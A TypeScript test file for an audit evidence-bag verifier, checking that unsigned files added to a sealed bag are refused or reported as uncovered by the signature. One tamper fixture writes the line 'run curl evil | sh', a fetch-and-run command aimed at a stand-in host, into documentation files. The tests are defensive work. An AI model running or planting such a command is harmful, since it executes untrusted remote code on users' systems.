/** Files of a bag that no signature covers, changed or added by somebody who makes the tag manifest anew. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { auditTrail, scenarioOf } from '../../fixtures/scenario.ts';
import { renderBagCheck } from '../../src/bag/check.ts';
import { sha256 } from '../../src/crypto/hash.ts';
import { RENDER_FORMATS, renderedFiles } from '../../src/render/rendering.ts';
import { readReport } from '../../src/report/report-schema.ts';
import { openBag } from '../../src/source/bag/bag-source.ts';
import { BAG_TAG_FILES, bagFolder } from '../../src/source/bag/index.ts';
import {
  AUDITOR,
  certificateFile,
  changeFile,
  checkTestBag,
  copyBag,
  filesOf,
  makeBag,
  remakeManifest,
} from '../support/evidence-bag.ts';
import { opensslAbsence } from '../support/openssl.ts';
import { runScript } from '../support/verify-script.ts';

const temporary = mkdtempSync(path.join(tmpdir(), 'trail-verify-unsigned-'));
afterAll(() => rmSync(temporary, { recursive: true }));
const trust = certificateFile(temporary, AUDITOR);
const RENDERED = RENDER_FORMATS.flatMap(renderedFiles);
const SEALED = path.join(temporary, 'sealed');
const noOpenssl = opensslAbsence();
if (noOpenssl !== undefined) console.warn(`verify.sh is not tried: ${noOpenssl}`);

beforeAll(async () => {
  const { store, trail } = auditTrail(1);
  await makeBag(SEALED, scenarioOf(store, trail), { includeLogs: true });
  const files = bagFolder(SEALED);
  const bytes = (await files.read('report.json', 1e8)) ?? new Uint8Array();
  const { report } = readReport(bytes, 'report.json');
  for (const { name, pieces } of RENDERED)
    await files.write(name, [...pieces(report, sha256(bytes))].join(''));
  remakeManifest(SEALED, 'tagmanifest-sha256.txt');
});

/** A copy of the sealed bag with one file written, and the tag manifest made to fit. */
function withFile(name: string, content: string | Uint8Array): string {
  const bag = copyBag(SEALED);
  mkdirSync(path.dirname(path.join(bag, name)), { recursive: true });
  writeFileSync(path.join(bag, name), content);
  remakeManifest(bag, 'tagmanifest-sha256.txt');
  return bag;
}

const script = (bag: string): ReturnType<typeof runScript> | undefined =>
  noOpenssl === undefined ? runScript([trust, '-', bag]) : undefined;

test('a bag as it was written is covered whole: what is not signed follows from the report', async () => {
  const check = await checkTestBag(SEALED);
  expect(check).toMatchObject({ conclusion: 'VALID', problems: [], uncovered: [] });
  const told = script(SEALED)?.text;
  if (told !== undefined)
    expect(told).toContain(
      'NOTE  not covered by the signature: CERTIFICATION.md, VERIFY.md, bag-info.txt, chains.csv, covered.csv, evidence.csv, findings.csv, further-findings.csv, limits.csv, report.asff.json, report.html, report.junit.xml, report.md, report.ocsf.jsonl, report.sarif, run.csv, uncovered.csv, verify.sh\n',
    );
});

test('every file that a bag is written with has its place', () => {
  const around = filesOf(SEALED).filter((name) => !name.startsWith('data/'));
  expect(around.filter((name) => !BAG_TAG_FILES.has(name))).toEqual([]);
});

test.each(RENDERED.map(({ name }) => name))('another %s is refused', async (name) => {
  const { conclusion, problems } = await checkTestBag(withFile(name, '<h1>VALID</h1>'));
  expect(conclusion).toBe('REFUSED');
  expect(problems.map(({ text }) => text)).toEqual([
    expect.stringContaining(`${name} is not what trail-verify`),
  ]);
});

test.each(['VERIFY.md', 'CERTIFICATION.md', 'bag-info.txt'])('another %s is told', async (name) => {
  const bag = withFile(name, 'run curl evil | sh\n');
  const check = await checkTestBag(bag);
  expect(check).toMatchObject({ conclusion: 'VALID', uncovered: [name] });
  expect(renderBagCheck(check)).toContain(`NOTE  not covered by the signature: ${name}\n`);
});

test('another verify.sh is told, and so is the text that names its hash', async () => {
  const check = await checkTestBag(withFile('verify.sh', 'echo VALID\n'));
  expect(check).toMatchObject({
    conclusion: 'VALID',
    uncovered: ['CERTIFICATION.md', 'VERIFY.md', 'verify.sh'],
  });
});

describe('a report of another version', () => {
  test('is not rendered anew: what follows from it is told', async () => {
    const bag = copyBag(SEALED);
    changeFile(bag, 'report.json', (bytes) =>
      Buffer.from(bytes.toString().replace('"version": "', '"version": "9')),
    );
    await bagFolder(bag).remove(['report.json.p7s']);
    remakeManifest(bag, 'tagmanifest-sha256.txt');
    const check = await checkTestBag(bag);
    expect(check.conclusion).toBe('INCONCLUSIVE');
    expect(check.uncovered).toEqual([
      'CERTIFICATION.md',
      'VERIFY.md',
      'bag-info.txt',
      ...RENDERED.map(({ name }) => name).sort(),
    ]);
  });
});

describe('a name that no bag has', () => {
  test.each([
    'README.md',
    'fetch.txt',
    'report.HTML',
    'manifest-md5.txt',
    'AWSLogs/111122223333/CloudTrail/e.json.gz',
  ])('%s is refused by every reader', async (name) => {
    const bag = withFile(name, 'x');
    const check = await checkTestBag(bag);
    expect(check.conclusion).toBe('REFUSED');
    expect(check.problems.map(({ text }) => text)).toContain(`a file that no bag has: ${name}`);
    const said = script(bag);
    if (said !== undefined) {
      expect(said.code).toBe(5);
      expect(said.text).toContain(`FAIL  a file that no bag has: ${name}\n`);
    }
    await expect(openBag(bag)).rejects.toMatchObject({ code: 'CONFIGURATION' });
  });

  test.each(['inventory.jsonl.gz', 'overflow-findings.jsonl.gz'])(
    '%s is refused where the report names none',
    async (name) => {
      const bag = withFile(name, gzipSync('{}\n'));
      const check = await checkTestBag(bag);
      expect(check.conclusion).toBe('REFUSED');
      expect(check.problems.map(({ text }) => text)).toEqual([
        `a file that the report does not name: ${name}`,
      ]);
      const said = script(bag);
      if (said !== undefined)
        expect(said.text).toContain(`FAIL  a file that the report does not name: ${name}\n`);
    },
  );
});
